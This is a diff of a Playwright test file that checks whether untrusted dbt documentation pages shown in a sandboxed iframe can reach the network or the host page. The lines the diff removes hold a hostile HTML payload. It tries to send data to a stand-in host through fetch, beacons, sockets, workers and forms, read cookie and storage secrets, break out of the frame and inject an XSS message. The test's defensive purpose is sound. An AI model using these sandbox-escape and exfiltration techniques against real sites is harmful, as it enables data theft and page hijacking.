@@ -18,69 +18,8 @@ pytestmark = pytest.mark.xdist_group("browser")
 # What the address of somebody else's host is put in place of.
 ELSEWHERE = "http://elsewhere.invalid/stolen"
 
-# Each line tries one thing; what worked is kept in `did`, which only the test can see from outside.
-HOSTILE = (
-    f"""<!doctype html><html><head><title>dbt Docs</title>
-<link rel="stylesheet" href="{ELSEWHERE}.css"><link rel="preload" as="image" href="{ELSEWHERE}-preload">
-<link rel="preconnect" href="{ELSEWHERE}"><link rel="prefetch" href="{ELSEWHERE}-prefetch"><script src="{ELSEWHERE}.js"></script></head><body>
-<img src="{ELSEWHERE}.png"><iframe src="{ELSEWHERE}-frame"></iframe><video src="{ELSEWHERE}.mp4"></video>
-<iframe src="../../index.html"></iframe>
-<object data="{ELSEWHERE}-object"></object><embed src="{ELSEWHERE}-embed">
-<style>@import url({ELSEWHERE}-import); body {{ background: url({ELSEWHERE}-background) }}</style>
-<base href="{ELSEWHERE}">
-<form id="f" action="{ELSEWHERE}" method="post"><input name="a" value="b"></form>
-<a id="top" target="_top" href="{ELSEWHERE}-top">x</a><a id="blank" target="_blank" href="{ELSEWHERE}-blank">x</a>
-<p id="read">read me</p>
-<script>"""
-    + r"""
-var did = [], ELSEWHERE = '%s';
-function tries(name, act) { try { if (act() !== false) did.push(name); } catch (error) { } }
-tries('parent title', function () { parent.document.title = 'PWNED'; });
-tries('top title', function () { top.document.title = 'PWNED'; });
-tries('parent value', function () { parent.PWNED = 1; });
-tries('top value', function () { top.PWNED = 1; });
-tries('frame element', function () { return frameElement !== null; });
-tries('remove the sandbox', function () { frameElement.removeAttribute('sandbox'); });
-tries('theme', function () { localStorage.setItem('mesh-theme', 'PWNED'); return false; });
-tries('cookie', function () { document.cookie = 'stolen=1'; return document.cookie.indexOf('stolen') >= 0; });
-tries('site cookie', function () { return document.cookie.indexOf('secret') >= 0; });
-tries('site storage', function () { return localStorage.getItem('secret') !== null; });
-tries('delete the shim', function () { delete window.localStorage; return localStorage.getItem('secret') !== null; });
-tries('prototype storage', function () {
-  var get = Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage');
-  return get.get.call(window).getItem('secret') !== null;
-});
-tries('database', function () {
-  indexedDB.open('x').onsuccess = function () { did.push('database opened'); }; return false;
-});
-tries('parent alert', function () { parent.alert('PWNED'); });
-tries('alert', function () { alert('PWNED'); return false; });
-tries('popup', function () { return window.open(ELSEWHERE + '-popup') !== null; });
-tries('beacon', function () { navigator.sendBeacon(ELSEWHERE + '-beacon', 'x'); return false; });
-tries('socket', function () { new WebSocket('ws' + ELSEWHERE.slice(4) + '').onopen = function () { did.push('socket'); }; return false; });
-tries('worker', function () {
-  new Worker(URL.createObjectURL(new Blob(['fetch("' + ELSEWHERE + '-worker")'], {type: 'text/javascript'}))); return false;
-});
-tries('xhr', function () { var x = new XMLHttpRequest(); x.open('GET', ELSEWHERE + '-xhr'); x.send(); return false; });
-tries('fetch', function () { fetch(ELSEWHERE + '-fetch', {mode: 'no-cors'}).then(function () { did.push('fetched'); }, function () {}); return false; });
-tries('read the site', function () {
-  fetch('../../domains/weather/domain.json').then(function () { did.push('read the site'); }, function () {}); return false;
-});
-tries('image', function () { new Image().src = ELSEWHERE + '-image'; return false; });
-tries('rtc', function () { return Boolean(window.RTCPeerConnection); });
-tries('message', function () { parent.postMessage({type: 'theme', html: '<img src=x onerror=alert(1)>'}, '*'); return false; });
-tries('form', function () { document.getElementById('f').submit(); return false; });
-tries('top link', function () { document.getElementById('top').click(); return false; });
-tries('blank link', function () { document.getElementById('blank').click(); return false; });
-tries('top location', function () { top.location = ELSEWHERE + '-top2'; return top.location.href === ELSEWHERE; });
-tries('parent location', function () { parent.location.replace(ELSEWHERE + '-parent'); return false; });
-tries('top script', function () { top.location = 'javascript:document.title=1'; return false; });
-tries('open top', function () { return window.open(ELSEWHERE + '-open-top', '_top') !== null; });
-document.body.setAttribute('data-did', JSON.stringify(did));
-setTimeout(function () { document.body.setAttribute('data-did', JSON.stringify(did)); document.body.setAttribute('data-done', '1'); }, 300);
-</script></body></html>"""
-    % ELSEWHERE
-)
+# Each of its lines tries one thing and keeps what worked, for the test alone to see.
+HOSTILE = (Path(__file__).parent / "hostile_dbt_docs.html").read_text(encoding="utf-8")
 
 
 @pytest.fixture(scope="module")
@@ -134,8 +73,18 @@ def honest():
         **{
             key: {}
             for key in (
-                "sources", "macros", "exposures", "metrics", "semantic_models", "saved_queries", "unit_tests", "groups",
-                "selectors", "disabled", "parent_map", "child_map",
+                "sources",
+                "macros",
+                "exposures",
+                "metrics",
+                "semantic_models",
+                "saved_queries",
+                "unit_tests",
+                "groups",
+                "selectors",
+                "disabled",
+                "parent_map",
+                "child_map",
             )
         },
         "docs": {"doc.dbt.__overview__": {"name": "__overview__", "package_name": "dbt", "block_contents": "# Hello"}},
@@ -185,7 +134,7 @@ def test_without_the_frame_the_same_docs_would_reach_the_network(visit, served, 
 
 
 def test_opened_directly_they_lead_to_our_page_and_nothing_of_them_runs(visit, home, folder):
-    html = "<title>PWNED</title><script>localStorage.setItem('ran', '1')</script><img src=x onerror=\"localStorage.setItem('ran', '2')\">"
+    html = "<title>PWNED</title><script>{0}</script><img src=x onerror={0}>".format("localStorage.setItem('ran',1)")
     written(folder, dict(dbt_docs_files("silent", html.encode())))
     visitor = visit()
     page = visitor.open(f"{home}/dbt/silent/docs.html", "commit")
@@ -209,6 +158,9 @@ def test_honest_docs_are_read_and_walked_through(visit, home):
     page.get_by_role("link", name="dbt docs").click()
     frame = page.frame_locator("iframe.dbt-docs")
     frame.get_by_text("Hello").wait_for()
-    frame.get_by_text("Hello").evaluate("() => { location.hash = '#!/model/model.fleet.planes'; }")
+    for name in ("fleet", "models", "planes"):
+        frame.locator("a:visible", has_text=name).first.click()
     frame.get_by_role("paragraph").filter(has_text="One row for each plane, says the docs.").first.wait_for()
+    frame.locator("a:visible", has_text="Code").first.click()
+    frame.locator("code:visible", has_text="select 1").first.wait_for()
     assert visitor.elsewhere(home) == []
